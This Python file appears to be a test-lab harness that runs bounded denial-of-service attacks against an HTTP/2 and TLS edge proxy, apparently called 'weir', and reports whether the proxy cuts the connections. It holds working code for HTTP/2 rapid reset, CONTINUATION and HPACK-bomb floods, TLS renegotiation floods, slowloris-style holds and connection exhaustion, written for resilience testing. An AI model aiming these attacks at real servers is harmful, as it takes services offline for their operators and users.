"""What attackers do to an edge, each as a process of its own: `python3 lab/attackers.py NAME ADDRESS
HTTP_PORT HTTPS_PORT HOST SECONDS`. The last line printed is a JSON object: connections made, those that weir
ended, what was sent.

A flood sends as fast as it is let, on one connection after the other, for SECONDS. A holder opens its
connections, holds them, and waits for weir to end them, for HOLD_S at most; it prints "held" when they stand.
Everything is bounded in count and time."""

import contextlib
import json
import os
import select
import socket
import ssl
import struct
import subprocess
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from lab import http2  # noqa: E402

HOLD_S = 45  # longer than each deadline that weir has for a client
HOLDERS = 200  # connections that hold
ZERO_WINDOW_STREAMS = 25  # each holds a connection to the origin as well
CROWD = 6000  # connections that come at once
BATCH = 100  # frames in one write
CONNECTIONS_MAX = 20_000  # of one flood: more than it comes to in its time
DRIPPED_STREAMS = 10  # of each connection that drips
RESET = struct.pack("ii", 1, 0)  # SO_LINGER: close() resets


class Target:
    def __init__(self, address, http_port, https_port, host, seconds):
        self.http = (address, http_port)
        self.https = (address, https_port)
        self.host = host
        self.until = time.monotonic() + seconds


def flood(target, opening, batch_of):
    """batch_of(number of the batch) is sent until weir ends the connection; then comes the next one."""
    connections = ended = frames = 0
    while time.monotonic() < target.until and connections < CONNECTIONS_MAX:
        connections += 1
        try:
            connection = http2.Connection(target.http, opening)
            with contextlib.closing(connection.socket):
                number = 0
                while time.monotonic() < target.until:
                    connection.send(batch_of(number))
                    number += 1
                    frames += BATCH
                    readable, _, _ = select.select([connection.socket], [], [], 0)
                    if readable and not connection.socket.recv(1 << 16):
                        ended += 1
                        break
        except ConnectionError:
            ended += 1
        except TimeoutError:  # weir reads no more from it, which bounds it as well
            ended += 1
    return {"connections": connections, "ended": ended, "sent": f"{frames} frames"}


def rapid_reset(target):
    block = http2.head(target.host)

    def batch(number):
        streams = range(1 + 2 * BATCH * number, 1 + 2 * BATCH * (number + 1), 2)
        return b"".join(
            http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, block)
            + http2.frame(http2.RST_STREAM, 0, stream, b"\0\0\0\x08")
            for stream in streams
        )

    return flood(target, None, batch)


def continuation(target):
    piece = http2.frame(http2.CONTINUATION, 0, 1, http2.literal("x", "y"))
    begin = http2.frame(http2.HEADERS, 0, 1, http2.head(target.host))
    return flood(target, None, lambda number: (begin if number == 0 else b"") + piece * BATCH)


def settings(target):
    return flood(target, None, lambda _: http2.settings() * BATCH)


def ping(target):
    return flood(target, None, lambda _: http2.frame(http2.PING, payload=b"12345678") * BATCH)


def priority(target):
    return flood(target, None, lambda _: http2.frame(http2.PRIORITY, 0, 1, b"\0\0\0\x03\x10") * BATCH)


def hpack_bomb(target):
    """One large entry in the dynamic table, then a byte for each copy of it."""
    block = http2.head(target.host) + http2.literal("x", "y" * 3900, indexed=True) + b"\xbe" * 10_000

    def batch(number):
        return http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, 1 + 2 * number, block)

    return flood(target, None, batch)


def tls_garbage(target):
    """What is no handshake at all, and what begins as one."""
    connections = ended = 0
    record = b"\x16\x03\x01\x02\x00"
    while time.monotonic() < target.until and connections < CONNECTIONS_MAX:
        connections += 1
        garbage = (record if connections % 2 else b"") + os.urandom(512)
        try:
            with socket.create_connection(target.https, 5) as client:
                client.sendall(garbage)
                while client.recv(4096):
                    pass
            ended += 1
        except ConnectionError:
            ended += 1
        except TimeoutError:
            pass
    return {"connections": connections, "ended": ended, "sent": f"{connections} handshakes of garbage"}


def tls_renegotiation(target):
    """TLS 1.2's renegotiation, which would cost weir a handshake each time."""
    connections = ended = asked = 0
    address = f"{target.https[0]}:{target.https[1]}"
    while time.monotonic() < target.until and connections < CONNECTIONS_MAX:
        connections += 1
        with subprocess.Popen(
            ["openssl", "s_client", "-tls1_2", "-connect", address, "-servername", target.host],
            stdin=subprocess.PIPE,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        ) as client:
            try:
                while time.monotonic() < target.until and client.poll() is None:
                    client.stdin.write(b"R\n")
                    client.stdin.flush()
                    asked += 1
                    with contextlib.suppress(subprocess.TimeoutExpired):
                        client.wait(0.02)
            except BrokenPipeError:  # is about to end, as weir has ended the connection
                with contextlib.suppress(subprocess.TimeoutExpired):
                    client.wait(5)
            ended += client.poll() is not None
            client.kill()
            with contextlib.suppress(BrokenPipeError):
                client.stdin.close()
    return {"connections": connections, "ended": ended, "sent": f"{asked} renegotiations"}


# --- those that hold


def hold(sockets, drip=b"", interval_s=1.0, read=True, take=0, over_at=b""):
    """Waits for weir to end them: by closing, or by an answer with over_at in it. drip: is sent every
    interval_s; read=False: takes nothing of what weir sends, or so many bytes every interval_s, and sees
    the end by the connection's error."""
    print("held", flush=True)
    began = time.monotonic()
    open_ones = {one.fileno(): one for one in sockets}
    poll = select.poll()
    for number, one in open_ones.items():
        one.setblocking(False)
        poll.register(number, select.POLLIN if read else select.POLLRDHUP)
    next_drip = began + interval_s
    while open_ones and time.monotonic() - began < HOLD_S:
        for number, events in poll.poll(100):
            over = events & (select.POLLERR | select.POLLHUP | select.POLLRDHUP)
            if not over and events & select.POLLIN:
                try:
                    received = open_ones[number].recv(1 << 16)
                    over = not received or (over_at and over_at in received)
                except ConnectionError:
                    over = True
            if over:
                poll.unregister(number)
                open_ones.pop(number).close()
        if time.monotonic() >= next_drip:
            next_drip += interval_s
            for one in open_ones.values():
                with contextlib.suppress(OSError):
                    if drip:
                        one.send(drip)
                    if take:
                        one.recv(take)
    took = time.monotonic() - began
    return {"connections": len(sockets), "ended": len(sockets) - len(open_ones), "sent": f"held {took:.0f} s"}


def connected(place, sent=b"", count=HOLDERS, receive_bytes=None, source=None):
    sockets = []
    for _ in range(count):
        one = socket.socket()
        if source:
            one.bind((source, 0))
        if receive_bytes:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
        one.settimeout(5)
        one.connect(place)
        one.sendall(sent)
        sockets.append(one)
    return sockets


def slow_heads(target):
    return hold(connected(target.http, f"GET / HTTP/1.1\r\nHost: {target.host}\r\nx: ".encode()), drip=b"y")


def slow_bodies(target):
    begin = f"POST /echo HTTP/1.1\r\nHost: {target.host}\r\nContent-Length: 1000\r\n\r\nabc"
    return hold(connected(target.http, begin.encode()))


def slow_readers(target):
    ask = f"GET /big HTTP/1.1\r\nHost: {target.host}\r\n\r\n".encode()
    return hold(connected(target.http, ask, receive_bytes=4096), read=False)


def dripping_bodies(target):
    begin = f"POST /echo HTTP/1.1\r\nHost: {target.host}\r\nContent-Length: 1000\r\n\r\n"
    return hold(connected(target.http, begin.encode()), drip=b"x")


def dripping_readers(target):
    ask = f"GET /big HTTP/1.1\r\nHost: {target.host}\r\n\r\n".encode()
    return hold(connected(target.http, ask, receive_bytes=4096), read=False, take=10)


def dripping(target, head, flags, opening, drop, over_at):
    """Streams of HTTP/2 on a few connections, a drop each a second."""
    numbers = [1 + 2 * number for number in range(DRIPPED_STREAMS)]
    begin = b"".join(http2.frame(http2.HEADERS, flags, number, head) for number in numbers)
    drip = b"".join(http2.frame(drop[0], 0, number, drop[1]) for number in numbers)
    count = HOLDERS // DRIPPED_STREAMS
    ones = [http2.Connection(target.http, opening + begin).socket for _ in range(count)]
    return hold(ones, drip=drip, over_at=over_at)


def dripping_streams(target):
    """Uploads of a known length, which the origin answers when it has them. The first answer, a 408 that says
    so, is the end."""
    head = http2.head(target.host, "/echo", "POST", [("content-length", "1000")])
    drop = http2.DATA, b"x"
    return dripping(target, head, http2.END_HEADERS, http2.settings(), drop, b"slower than")


def dripping_windows(target):
    """Downloads. The first RST_STREAM is the end."""
    head = http2.head(target.host, "/big")
    drop = http2.WINDOW_UPDATE, b"\0\0\0\1"
    reset = http2.frame(http2.RST_STREAM, payload=b"\0\0\0\0")[:5]  # its length, type and flags
    flags = http2.END_HEADERS | http2.END_STREAM
    return dripping(target, head, flags, http2.settings(_4=0), drop, reset)


def zero_window(target):
    streams = b"".join(
        http2.frame(
            http2.HEADERS,
            http2.END_HEADERS | http2.END_STREAM,
            1 + 2 * number,
            http2.head(target.host, "/big"),
        )
        for number in range(ZERO_WINDOW_STREAMS)
    )
    opening = http2.settings(_4=0) + streams
    return hold([http2.Connection(target.http, opening).socket for _ in range(HOLDERS // 4)])


def slow_handshakes(target):
    """The beginning of a real ClientHello, a byte a second."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    client = context.wrap_bio(incoming, outgoing, server_hostname=target.host)
    with contextlib.suppress(ssl.SSLWantReadError):
        client.do_handshake()
    hello = outgoing.read()
    sockets = []
    for _ in range(HOLDERS):
        sockets.append(socket.create_connection(target.https, 5))
        sockets[-1].sendall(hello[:20])
    return hold(sockets, drip=b"\0")


def many_connections(target):
    """More than weir has descriptors. It must not end them: it accepts them when there is room. They end by
    a reset: else TIME_WAIT has most ports when they come again, and connect() searches long for one."""
    sockets = []
    for _ in range(CROWD):
        one = socket.socket()
        one.setblocking(False)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
        one.connect_ex(target.http)
        sockets.append(one)
    print("held", flush=True)
    while time.monotonic() < target.until:
        time.sleep(0.05)
    for one in sockets:
        one.close()
    return {"connections": CROWD, "ended": CROWD, "sent": f"{CROWD} connections"}


FLOODS = [rapid_reset, continuation, settings, ping, priority, hpack_bomb, tls_garbage, tls_renegotiation]
HOLD = [
    slow_heads,
    slow_bodies,
    slow_readers,
    zero_window,
    slow_handshakes,
    dripping_bodies,
    dripping_readers,
    dripping_streams,
    dripping_windows,
]
ALL = {attack.__name__: attack for attack in (*FLOODS, *HOLD, many_connections)}


def main():
    name, address, http_port, https_port, host, seconds = sys.argv[1:7]
    target = Target(address, int(http_port), int(https_port), host, float(seconds))
    print(json.dumps(ALL[name](target)), flush=True)


if __name__ == "__main__":
    main()
